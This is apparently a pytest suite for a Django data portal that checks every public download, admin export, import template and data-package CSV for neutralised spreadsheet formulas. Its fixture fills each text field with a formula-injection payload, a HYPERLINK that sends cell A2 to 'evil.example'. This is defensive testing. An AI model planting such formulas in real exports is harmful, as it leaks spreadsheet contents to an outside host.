"""No download runs a formula: every text field holds one, and every download the portal offers is unpacked.

The download addresses come from the URL resolver (every public pattern × ``?_export=csv|xlsx|json``) and
from the admin's registry (every changelist export, every import template), so a page added later is
checked without being listed here.
"""

import csv
import io
import json
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.contrib import admin
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.urls.resolvers import LocalePrefixPattern
from django.utils import translation
from import_export.admin import ExportMixin

from core.admin_imports import StaffImportExportMixin
from core.downloads import FORMULA_TRIGGERS
from core.vocabulary import Unit
from editions.models import Edition, Metric, ReportedBand, ReportedFigure, ReportedSector, Sector, Source, SpanFigure
from projects.models import Project, Scope
from tests.factories import (
    EditionFactory,
    MetricFactory,
    ProjectFactory,
    ReportedBandFactory,
    ReportedFigureFactory,
    ReportedSectorFactory,
    SectorFactory,
    SourceFactory,
    SpanFigureFactory,
    SuperuserFactory,
)

pytestmark = pytest.mark.django_db

FORMATS = ("csv", "xlsx", "json")
CONTENT_TYPES = {"csv": "text/csv", "xlsx": "application/vnd.openxmlformats", "json": "application/json"}
# The pages that offer downloads today: the walk over the resolver must find at least these.
KNOWN_DOWNLOAD_PAGES = {"editions:list", "projects:list", "comparisons:index", "comparisons:pair"}


def payload(field: str, index: int) -> str:
    """A formula that would leak the sheet to another site, started by each trigger in turn and naming its field."""
    trigger = FORMULA_TRIGGERS[index % len(FORMULA_TRIGGERS)]
    body = f'HYPERLINK("http://evil.example/?leak="&A2,"{field}")'
    return trigger + body if trigger == "=" else f"{trigger}={body}"


# Every text field of the models whose rows downloads show (choices excepted: the database keeps those to their
# codes), so a field added later is covered without editing this list.
MODELS = {
    "edition": Edition,
    "metric": Metric,
    "sector": Sector,
    "source": Source,
    "figure": ReportedFigure,
    "band": ReportedBand,
    "named": ReportedSector,
    "project": Project,
    "span": SpanFigure,
}


def text_fields():
    for prefix, model in MODELS.items():
        for field in model._meta.concrete_fields:
            if isinstance(field, models.CharField | models.TextField) and not field.choices:
                yield f"{prefix}.{field.name}", field.max_length


FIELDS = [name for name, _length in text_fields()]
LENGTHS = dict(text_fields())
PAYLOADS = {field: payload(field, index) for index, field in enumerate(FIELDS)}
# A bare "=" formula where the comparison and the projects table show text: openpyxl would store it as a formula.
PAYLOADS.update({field: payload(field, 0) for field in ("metric.name_en", "sector.name_en", "project.title")})
# A short field (a source's key) gets a short formula that still names it.
PAYLOADS = {
    field: text if not LENGTHS[field] or len(text) <= LENGTHS[field] else f'="{field}")'
    for field, text in PAYLOADS.items()
}
# Shown by at least one public download (the rest only by the admin's exports).
PUBLIC_FIELDS = [
    "edition.city", "metric.name_en", "sector.name_en", "source.url", "project.title", "project.parties",
    "span.region_en", "span.public_note_en",
]  # fmt: skip


def hostile(prefix: str) -> dict:
    return {field.split(".")[1]: text for field, text in PAYLOADS.items() if field.startswith(prefix + ".")}


@pytest.fixture
def hostile_data():
    """Two published editions sharing a metric, a sector, a source and projects, every text field a formula."""
    source = SourceFactory(**hostile("source"))
    metric = MetricFactory(is_main=True, unit=Unit.COUNT, **hostile("metric"))
    sector = SectorFactory(**hostile("sector"))
    editions = [EditionFactory(number=number, year=2000 + number, **hostile("edition")) for number in (12, 14)]
    for edition, value in zip(editions, (Decimal("18000"), Decimal("20000")), strict=True):
        ReportedFigureFactory(edition=edition, metric=metric, value=value, sources=[source], **hostile("figure"))
        ReportedBandFactory(edition=edition, sources=[source], **hostile("band"))
        ReportedSectorFactory(edition=edition, sector=sector, **hostile("named"))
        ProjectFactory(
            edition=edition,
            sector=sector,
            source=source,
            scope=Scope.INTERNATIONAL,
            partner="KR",
            value=Decimal("250000000.50"),
            **hostile("project"),
        )
    SpanFigureFactory(metric=metric, first_edition=12, last_edition=14, sources=[source], **hostile("span"))
    EditionFactory(number=15, draft=True)
    return {"edition": editions[1], "editions": editions, "project_pk": editions[1].projects.get().pk}


def _walk(patterns, prefix="", namespace=None):
    """(name with namespace, parameter names) of every pattern below `patterns`."""
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}:{pattern.namespace}" if namespace and pattern.namespace else pattern.namespace
            yield from _walk(pattern.url_patterns, prefix + str(pattern.pattern), inner or namespace)
        elif isinstance(pattern, URLPattern) and pattern.name:
            name = f"{namespace}:{pattern.name}" if namespace else pattern.name
            yield name, set(pattern.pattern.converters)


def public_url_names() -> list[tuple[str, set[str]]]:
    """Every page under the language prefix: the public site (the admin, health check and language switch are not)."""
    found = []
    for pattern in get_resolver().url_patterns:
        if isinstance(pattern, URLResolver) and isinstance(pattern.pattern, LocalePrefixPattern):
            found.extend(_walk(pattern.url_patterns))
    return found


def url_kwargs(names: set[str], data: dict) -> dict:
    values = {
        "number": data["edition"].number,
        "pk": data["project_pk"],
        "a": data["editions"][0].number,
        "b": data["editions"][1].number,
    }
    unknown = names - set(values)
    assert not unknown, f"this test does not know what to put in {unknown}: add a value for it above"
    return {name: values[name] for name in names}


def content(response) -> bytes:
    # Reading a streamed response to its end closes it (and its temporary file), as a server does.
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def xlsx_cells(body: bytes) -> tuple[list[list], list[str]]:
    """Every cell of every sheet, and the cells openpyxl reads as formulas."""
    book = openpyxl.load_workbook(io.BytesIO(body))
    rows, formulas = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            formulas += [f"{sheet.title}!{cell.coordinate}: {cell.value!r}" for cell in row if cell.data_type == "f"]
            rows.append([cell.value for cell in row])
    return rows, formulas


def cells_and_formulas(body: bytes, file_format: str, where: str) -> tuple[list[list], list[str]]:
    """The file's cells, and every one a spreadsheet would run (a formula cell, or text starting a formula)."""
    rows, formulas = (csv_cells(body), []) if file_format == "csv" else xlsx_cells(body)
    return rows, [f"{where}: formula cell {cell}" for cell in formulas] + formulas_in(rows, where)


def formulas_in(rows: list[list], where: str) -> list[str]:
    return [
        f"{where}: {cell!r}"
        for row in rows
        for cell in row
        if isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS)
    ]


def strings_in(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [text for key, item in value.items() for text in [key, *strings_in(item)]]
    if isinstance(value, list):
        return [text for item in value for text in strings_in(item)]
    return []


def fields_shown(rows: list[list]) -> set[str]:
    """The fields whose formula appears (in whatever form) in some cell."""
    texts = [cell for row in rows for cell in row if isinstance(cell, str)]
    return {field for field in FIELDS if any(f'"{field}")' in text for text in texts)}


def public_downloads(client, data) -> dict[tuple[str, str, str], bytes]:
    """Every public address × format that answers with a file: {(language, url name, format): its content}."""
    downloads = {}
    for language in ("en", "zh-hans"):
        for name, parameters in public_url_names():
            with translation.override(language):
                url = reverse(name, kwargs=url_kwargs(parameters, data))
            for file_format in FORMATS:
                response = client.get(url, {"_export": file_format}, follow=True)
                kind = response.get("Content-Type", "")
                if response.status_code != 200 or kind.startswith("text/html"):
                    continue
                assert kind.startswith(CONTENT_TYPES[file_format]), (url, file_format, kind)
                assert response["Content-Disposition"].startswith("attachment; filename="), url
                # Read at once: a streamed file is written in the language active while it is read.
                downloads[(language, name, file_format)] = content(response)
    return downloads


def test_no_public_download_holds_a_formula_and_json_keeps_the_text_as_it_is(client, hostile_data):
    downloads = public_downloads(client, hostile_data)
    assert {name for _, name, _ in downloads} >= KNOWN_DOWNLOAD_PAGES
    shown, formulas = {"csv": set(), "xlsx": set()}, []
    for (language, name, file_format), body in downloads.items():
        if file_format == "json":
            continue
        rows, found = cells_and_formulas(body, file_format, f"{language} {name} {file_format}")
        formulas += found
        shown[file_format] |= fields_shown(rows)

        # The JSON of the same address: valid, every row and column of the CSV, the text untouched.
        if file_format != "csv":
            continue
        data = json.loads(downloads[(language, name, "json")])
        assert isinstance(data, list) and len(data) == len(rows) - 1, name
        assert all(isinstance(item, dict) and len(item) == len(rows[0]) for item in data), name
        texts = strings_in(data)
        for field in fields_shown(rows):
            assert any(PAYLOADS[field] in text for text in texts), (name, field)
    assert formulas == []
    for file_format, fields in shown.items():
        assert set(PUBLIC_FIELDS) <= fields, (file_format, set(PUBLIC_FIELDS) - fields)


def admin_downloads(client) -> dict[tuple[str, str], bytes]:
    """Every admin changelist export and import template, in every format it offers."""
    downloads = {}
    for model, model_admin in admin.site._registry.items():
        info = f"{model._meta.app_label}_{model._meta.model_name}"
        if isinstance(model_admin, ExportMixin):
            url = reverse(f"admin:{info}_export")
            form = client.get(url).context["form"]
            chosen = {name: "on" for name, field in form.fields.items() if field.initial is True}
            for index, file_format in enumerate(model_admin.get_export_formats()):
                response = client.post(url, {**chosen, "format": str(index), "resource": "0"})
                assert response.status_code == 200, (url, response.content[:300])
                downloads[(f"{info} export", file_format().get_extension())] = content(response)
        if isinstance(model_admin, StaffImportExportMixin):
            for file_format in model_admin.get_export_formats():
                extension = file_format().get_extension()
                response = client.get(reverse(f"admin:{info}_import_template", args=[extension]))
                assert response.status_code == 200
                downloads[(f"{info} template", extension)] = content(response)
    return downloads


def test_no_admin_export_or_template_holds_a_formula(client, hostile_data):
    client.force_login(SuperuserFactory())
    downloads = admin_downloads(client)
    assert {extension for _, extension in downloads} == {"csv", "xlsx"}
    shown, formulas = {"csv": set(), "xlsx": set()}, []
    for (what, extension), body in downloads.items():
        rows, found = cells_and_formulas(body, extension, f"{what} {extension}")
        formulas += found
        shown[extension] |= fields_shown(rows)
    assert formulas == []
    # Every text field is in some export, so each of them was checked.
    for extension, fields in shown.items():
        assert fields == set(FIELDS), (extension, set(FIELDS) - fields)


def test_no_file_of_the_data_package_holds_a_formula(client, hostile_data):
    """The open data package (/data/expo-portal.zip): every CSV in it, every text field a formula."""
    response = client.get(reverse("data_package"))
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(content(response))) as archive:
        files = {name: archive.read(name) for name in archive.namelist() if name.endswith(".csv")}
    assert files
    shown, formulas = set(), []
    for name, body in files.items():
        rows, found = cells_and_formulas(body, "csv", f"data package {name}")
        formulas += found
        shown |= fields_shown(rows)
    assert formulas == []
    assert set(PUBLIC_FIELDS) <= shown, set(PUBLIC_FIELDS) - shown
